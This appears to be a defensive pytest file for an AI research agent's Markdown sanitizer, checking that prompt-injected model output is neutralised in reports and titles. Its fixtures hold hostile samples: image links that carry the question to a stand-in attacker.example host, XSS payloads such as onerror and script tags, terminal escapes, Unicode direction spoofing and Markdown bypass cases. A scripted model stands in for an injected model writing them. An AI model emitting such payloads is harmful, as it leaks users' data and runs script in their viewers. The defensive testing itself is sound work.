"""Model-written and page-derived text leaves the run inert (issue 30, item 3).

A model that follows instructions planted in a page can write an image whose URL carries the
question to an attacker, raw HTML that runs in a Markdown viewer, links to pages that are not
the report's sources, or terminal escapes. These tests hold that none of it reaches the
report's Markdown, its JSON, the thread's final message or the chat's title.
"""

from __future__ import annotations

import uuid
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from langchain_core.messages import AIMessage, BaseMessage, HumanMessage
from langgraph.checkpoint.memory import InMemorySaver
from markdown_it import MarkdownIt

from deep_research.context import Context
from deep_research.engines.llm.engine import LLMEngine
from deep_research.engines.schemas import ChatTitle, ClarifyDecision, ReportAssessment
from deep_research.graph import build_graph
from deep_research.persistence.checkpointer import make_serde
from deep_research.sources import SAMPLE_CORPUS, LocalCorpus
from deep_research.sources.local import default_index_path
from deep_research.state import Report
from deep_research.text.inert import inert_markdown, inert_title, live_content
from tests.unit_tests import test_graph_llm
from tests.unit_tests.scripted_model import ScriptedChatModel, structured, text

LEAK = "http://attacker.example/leak?d=question"


def test_images_links_and_html_to_unknown_urls_become_text() -> None:
    source = (
        f"See ![chart]({LEAK}) and [the paper](https://ref.example/a) and [bait]({LEAK}).\n"
        "<img src=x onerror=alert(1)> <script>alert(2)</script> <!-- c --> a < b\n"
        f"[def]: {LEAK}\n[^v1]: a footnote stays\n<{LEAK}> and {LEAK}.\n"
    )
    out = inert_markdown(source, {"https://ref.example/a"}).text
    assert "![" not in out and f"]({LEAK})" not in out
    assert "See chart and [the paper](https://ref.example/a) and bait." in out
    assert "<img" not in out and "<script" not in out and "<!--" not in out
    assert "&lt;img src=x" in out and "a < b" in out  # shown as text, not removed
    assert "\\[def]:" in out  # a definition no viewer reads as one
    assert "[^v1]: a footnote stays" in out
    assert f"`{LEAK}`." in out  # a bare URL in code: never autolinked


def test_a_www_address_is_put_in_code_as_a_bare_url_is() -> None:
    """GitHub's Markdown links ``www.`` addresses without a scheme (its autolink extension)."""
    source = "Ask www.attacker.example/leak?d=question, or see https://www.ref.example/a."
    out = inert_markdown(source, {"https://www.ref.example/a"}).text
    assert out == ("Ask `www.attacker.example/leak?d=question`, or see https://www.ref.example/a.")


def test_code_is_left_as_written_but_loses_its_controls() -> None:
    source = "```\n<b>x</b> ![i](http://e.example/)\n```\nUse `<tag>`\x1b[2J here.\n"
    out = inert_markdown(source).text
    assert "```\n<b>x</b> ![i](http://e.example/)\n```\n" in out
    assert out.endswith("Use `<tag>` here.\n")


def test_terminal_escapes_and_controls_are_removed() -> None:
    source = "A\x1b[31mred\x1b[0m \x1b]0;owned\x07title\x00 with\x08 \x9bcontrols\tand tab\n"
    assert inert_markdown(source).text == "Ared title with controls\tand tab\n"
    assert inert_title("Bad\n# Forged heading \x1b[1m<b>") == "Bad # Forged heading &lt;b>"
    assert inert_title("Batteries \u202egnp.exe\u202c \u2066x\u2069") == "Batteries gnp.exe x"


def test_offsets_move_with_the_edits() -> None:
    source = f"![x]({LEAK}) First claim. <b>Second</b> claim."
    inert = inert_markdown(source)
    for phrase in ("First claim.", "Second", "claim."):
        start = source.rindex(phrase)
        moved = inert.moved(start), inert.moved(start + len(phrase))
        assert inert.text[moved[0] : moved[1]] == phrase


REFERENCE = "https://ref.example/a"


def _live(markdown: str, allowed: set[str]) -> list[str]:
    """What a CommonMark renderer (markdown-it-py) makes active in ``markdown``."""
    parser = MarkdownIt("commonmark")
    targets = {parser.normalizeLink(url) for url in allowed}
    pending, live = parser.parse(markdown), []
    while pending:
        token = pending.pop()
        pending.extend(token.children or [])
        if token.type in ("html_block", "html_inline", "image"):
            live.append(f"{token.type}: {token.content!r}")
        elif token.type == "link_open" and token.attrGet("href") not in targets:
            live.append(f"link: {token.attrGet('href')!r}")
    return live


def test_a_link_is_a_citation_only_to_the_references_of_its_own_call() -> None:
    # the references' URLs are normalized once per set of them: each call still sees its own
    cited = f"See [1]({REFERENCE}) and [2](https://ref.example/caf%C3%A9)."
    assert live_content(cited, {REFERENCE, "https://ref.example/café"}) == []
    assert live_content(cited, {REFERENCE}) == ["link 'https://ref.example/caf%C3%A9'"]
    assert len(live_content(cited, set())) == 2
    assert live_content(cited, {REFERENCE, "https://ref.example/café"}) == []


HOSTILE = [
    # issue 43: each was live after inert_markdown
    "![x](//attacker.example/p.png?q=question 'title')",
    "![x](//attacker.example/p.png?q=question (title))",
    "\\`<img src=x onerror=alert(1)>`",
    "`a\n\n<img src=x onerror=alert(1)>`",
    "```\ncode\n`````\n<img src=x onerror=alert(1)>\n```\n",
    f"> [leak]: {LEAK}\n\n[leak]",
    f"- [leak]: {LEAK}\n\n[leak]",
    f"1. [leak]: {LEAK} 'title'\n\nSee [leak][].",
]


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_markdown_a_commonmark_renderer_reads_otherwise_is_inert(source: str) -> None:
    out = inert_markdown(source, {REFERENCE}).text
    assert _live(source, {REFERENCE}), "the case is live before"
    assert _live(out, {REFERENCE}) == [], out


def test_a_protocol_relative_image_in_a_title_is_inert() -> None:
    title = inert_title("Batteries ![x](//attacker.example/p.png?q=question 'title')")
    assert _live(f"# {title}", set()) == [] and "attacker.example" in title


_PIECES = [
    "![x](//h.example/i.png 't')",
    f"![x]({LEAK})",
    f"![x]({REFERENCE})",
    f"[a]({LEAK})",
    f"[ref]({REFERENCE})",
    f'[a]({LEAK} "t")',
    f"<{LEAK}>",
    "<a@b.example>",
    "<img src=x onerror=alert(1)>",
    "<script>",
    "<!-- c -->",
    "<div>",
    "`",
    "``",
    "\\`",
    "\\",
    "```",
    "````",
    "~~~",
    "    ",
    "> ",
    "- ",
    "1. ",
    "[r]: ",
    f"[r]: {LEAK}",
    "[r]",
    "[r][]",
    "]",
    "[",
    "(",
    ")",
    "!",
    "'t'",
    '"t"',
    "\n",
    "\n\n",
    "//h.example/x",
    LEAK,
    "www.h.example",
    "&lt;",
    "&#60;img src=x>",
    "\x1b[31m",
    "text",
    " ",
]


@settings(max_examples=3000, deadline=None)
@given(st.lists(st.sampled_from(_PIECES), max_size=24).map("".join))
def test_random_hostile_markdown_renders_with_nothing_active(source: str) -> None:
    """No raw HTML, no image, no link but to a reference, as markdown-it-py renders it."""
    inert = inert_markdown(source, {REFERENCE})
    assert _live(inert.text, {REFERENCE}) == [], inert.text
    assert _live(inert_title(source), set()) == []


SCRIPT = "<script>alert(1)</script>"


def _respond(messages: list[BaseMessage], tools: list[dict[str, Any]] | None) -> AIMessage:
    tool = test_graph_llm._tool(tools)
    if tool == "ChatTitle":
        return structured(ChatTitle, title="Batteries \x1b[31m<img src=x onerror=alert(1)>")
    if tool == "ReportAssessment":
        return structured(
            ReportAssessment,
            summary=f"Grid batteries use LFP [E2]. ![chart]({LEAK})",
            limitations=[{"kind": "uncovered", "text": f"No cost was found. {SCRIPT}"}],
        )
    if tool is None:
        body = test_graph_llm.REPORT.replace("[E2][E3].", f"[E2][E3]. ![x]({LEAK}) {SCRIPT}")
        return text(body)
    return test_graph_llm.respond(messages, tools)


async def test_a_model_following_page_text_writes_no_active_content(tmp_path: Any) -> None:
    model = ScriptedChatModel(responses=[_respond] * 60)
    corpus = LocalCorpus(SAMPLE_CORPUS, default_index_path(tmp_path, SAMPLE_CORPUS))
    graph = build_graph(
        engine=LLMEngine(model, name="scripted-model"),
        sources=[corpus],
        checkpointer=InMemorySaver(serde=make_serde()),
    )
    config = {"configurable": {"thread_id": uuid.uuid4().hex}}
    question = "Compare LFP and NMC and describe Hornsdale Power Reserve"
    await graph.ainvoke({"messages": [HumanMessage(question)]}, config, context=Context())
    values = (await graph.aget_state(config)).values
    report: Report = values["report"]
    for output in (report.markdown, report.model_dump_json(), values["messages"][-1].text):
        assert "attacker.example/leak" not in output.replace(f"`{LEAK}`", "")
        assert "<script" not in output and "<img" not in output and "\x1b" not in output
    assert "![" not in report.markdown
    assert values["title"] == "Batteries &lt;img src=x onerror=alert(1)>"
    assert report.markdown.startswith("# Batteries &lt;img src=x onerror=alert(1)>\n")
    assert report.summary.startswith("Grid batteries use LFP [")
    stated = [item.text for item in report.limitations]  # the parts' judgement comes first
    assert any(text.startswith("No cost was found. &lt;script>") for text in stated), stated
    for claim in report.claims:  # offsets still point at the claims
        assert report.markdown[claim.position_start : claim.position_end] == claim.text


async def test_a_clarifying_question_is_inert_where_it_is_shown(tmp_path: Any) -> None:
    asked = f"Which one? ![x]({LEAK}) {SCRIPT}\x1b[2J"

    def respond(messages: list[BaseMessage], tools: list[dict[str, Any]] | None) -> AIMessage:
        if test_graph_llm._tool(tools) == "ClarifyDecision":
            return structured(ClarifyDecision, needs_clarification=True, question=asked)
        return _respond(messages, tools)

    graph = build_graph(
        engine=LLMEngine(ScriptedChatModel(responses=[respond] * 10), name="scripted-model"),
        sources=[LocalCorpus(SAMPLE_CORPUS, default_index_path(tmp_path, SAMPLE_CORPUS))],
        checkpointer=InMemorySaver(serde=make_serde()),
    )
    config = {"configurable": {"thread_id": uuid.uuid4().hex}}
    await graph.ainvoke({"messages": [HumanMessage("Batteries?")]}, config, context=Context())
    state = await graph.aget_state(config)
    shown = state.interrupts[0].value["question"]
    assert shown == "Which one? x &lt;script>alert(1)&lt;/script>"
